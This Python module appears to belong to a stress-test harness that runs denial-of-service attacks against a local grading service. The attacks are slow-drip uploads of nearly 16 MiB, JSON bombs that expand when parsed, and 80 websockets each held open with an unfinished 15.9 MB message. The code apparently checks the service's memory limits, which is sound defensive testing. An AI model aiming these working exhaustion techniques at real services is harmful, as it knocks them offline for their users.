"""Bodies that are slow, or make much of little, or never end: A2, A7, A8."""

import json
import struct
import time
from collections import Counter

from raw import Link

from broadway_attack.registry import attack
from broadway_attack.scene import ROUTE, Scene

BODY_BYTES = 16 * 1024 * 1024 - 1
HELD_BACK = 24 * 1024
DRIP_BYTES, DRIP_S = 120, 0.1  # 1.2 KB/s
SLOW = 17
SOCKETS, MESSAGE_BYTES = 80, 15_900_000
PING, PING_S, UPLOAD_S = b"\x89\x80\0\0\0\0", 0.8, 16.0
BUDGET_MIB = 320  # the bodies that a replica may hold, and a quarter more


def slow_bodies(scene: Scene, path: str) -> None:
    """17 bodies of just under 16 MiB: all but a little at once, the rest at 1.2 KB/s. Whoever is refused
    comes again."""
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {BODY_BYTES}\r\n\r\n".encode()
    filler, end, said = b"a" * (BODY_BYTES - HELD_BACK), time.monotonic() + scene.seconds, Counter()

    def one(_: int) -> None:
        while time.monotonic() < end:
            try:
                with Link(scene.url, timeout=2) as link:
                    said[_drip(link, head, filler, end)] += 1
            except OSError:
                said["none"] += 1
            time.sleep(0.2)

    scene.at_once(one, SLOW)
    scene.note(f"answers to the slow ones: {dict(said)}")


def _drip(link: Link, head: bytes, filler: bytes, end: float) -> str:
    """Sends slowly until the end or an answer; which."""
    link.send(head)
    link.socket.settimeout(0.1)
    try:  # a refusal of the head comes before the body is sent
        return link.socket.recv(12).decode()[9:] or "closed"
    except TimeoutError:
        pass
    link.socket.settimeout(5)
    link.send(filler)
    link.socket.settimeout(DRIP_S)
    while time.monotonic() < end:
        link.send(b"a" * DRIP_BYTES)
        try:
            return link.socket.recv(12).decode()[9:] or "closed"
        except TimeoutError:
            pass
    return "held"


@attack("A2a", "17 slow bodies of 16 MiB as heartbeats", growth_mib=BUDGET_MIB, is_quick=True)
def slow_heartbeats(scene: Scene) -> None:
    """Nobody knows who sends them before they are there."""
    slow_bodies(scene, f"{ROUTE}/heartbeat")


@attack("A2b", "17 slow bodies of 16 MiB as results", growth_mib=BUDGET_MIB)
def slow_results(scene: Scene) -> None:
    """As results of jobs that nobody has."""
    slow_bodies(scene, f"{ROUTE}/grading_job/{'0' * 32}")


@attack("A2c", "17 slow bodies of 16 MiB as submissions", growth_mib=BUDGET_MIB)
def slow_submissions(scene: Scene) -> None:
    """As runs; on loopback these need no token."""
    slow_bodies(scene, f"{ROUTE}/grading_run")


def bomb(size: int) -> bytes:
    """A request with a small body that is large once it is parsed."""
    body = b'{"worker_id":[' + b"{}," * ((size - 20) // 3) + b"{}]}"
    head = (
        f"POST {ROUTE}/heartbeat HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nConnection: close\r\n"
    )
    return head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body


def send_bombs(scene: Scene, size: int, clients: int, times: int, seconds: float) -> None:
    """So many clients at once, each so many times, for so long at most."""
    data, said, end = bomb(size), Counter(), time.monotonic() + seconds

    def one(_: int) -> None:
        for _ in range(times):
            if time.monotonic() > end:
                return
            with Link(scene.url, timeout=15) as link:
                link.send(data)
                said[link.socket.recv(12).decode()[9:] or "closed"] += 1

    scene.at_once(one, clients)
    scene.note(f"answers: {dict(said)}")


@attack("A7a", "7 JSON bombs of 2 MB as heartbeats, by anybody", growth_mib=128, is_quick=True)
def bombs(scene: Scene) -> None:
    """A list of 700,000 empty objects each."""
    send_bombs(scene, 2_000_000, 7, 1, scene.seconds)


@attack("A7b", "JSON bombs of 16 MB, 3 at a time, twice", growth_mib=BUDGET_MIB)
def large_bombs(scene: Scene) -> None:
    """5,000,000 empty objects each."""
    send_bombs(scene, 16_000_000, 3, 2, scene.seconds)


@attack("A7c", "16 clients with JSON bombs of 3 MB again and again", growth_mib=BUDGET_MIB)
def steady_bombs(scene: Scene) -> None:
    """As long as the attack lasts."""
    send_bombs(scene, 3_000_000, 16, 1000, scene.seconds)


def open_websocket(scene: Scene, name: str) -> Link:
    """A registered grader's websocket."""
    link = scene.connect()
    lines = ["Host: 127.0.0.1", f"Authorization: Bearer {scene.stack.cluster_token}", "Upgrade: websocket"]
    lines += ["Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"]
    link.send("\r\n".join([f"GET {ROUTE}/worker_ws/{name} HTTP/1.1", *lines, "", ""]))
    while b"\r\n\r\n" not in link.received:
        link.receive("the handshake was not answered")
    link.received = link.received.partition(b"\r\n\r\n")[2]
    link.send(text_frame(json.dumps({"type": "register", "args": {"hostname": "attack"}}).encode()))
    while b'"success"' not in link.received:
        link.receive("the registration was not answered")
    return link


def text_frame(payload: bytes, is_final: bool = True) -> bytes:
    """A text frame of a client, masked with zeros."""
    size, first = len(payload), 0x81 if is_final else 0x01
    head = struct.pack("!BBQ", first, 0x80 | 127, size) if size >= 126 else struct.pack("!BB", first, 0x80 | size)
    return head + b"\0\0\0\0" + payload


@attack("A8", "80 registered websockets, each with an unfinished message of 15.9 MB", growth_mib=BUDGET_MIB)
def unfinished_messages(scene: Scene) -> None:
    """Each sends the first fragment of a message, as many of them as there is time for, and all of them pings, so that
    none is taken for dead."""
    links = [open_websocket(scene, f"attack-{number}") for number in range(SOCKETS)]
    piece, sent, pinged = text_frame(b" " * MESSAGE_BYTES, is_final=False), 0, 0.0
    end = time.monotonic() + UPLOAD_S
    for link in links:
        if time.monotonic() < end:
            _send_to(link, piece)
            sent += 1
        if time.monotonic() > pinged + PING_S:
            pinged = _ping(links)
    for _ in range(int(scene.seconds / 2 / PING_S)):
        _ping(links)
        time.sleep(PING_S)
    scene.note(
        f"{sent} fragments were sent; {sum(_is_over(link) for link in links)} of {SOCKETS} websockets were closed"
    )


def _ping(links: list[Link]) -> float:
    for link in links:
        _send_to(link, PING)
    return time.monotonic()


def _send_to(link: Link, data: bytes) -> None:
    try:
        link.socket.settimeout(2)
        link.send(data)
    except OSError:
        pass


def _is_over(link: Link) -> bool:
    """Has the server closed it, or begun to?"""
    link.socket.settimeout(0.01)
    try:
        while data := link.socket.recv(65536):
            if b"\x88" in data:
                return True
    except TimeoutError:
        return False
    except OSError:
        pass
    return True
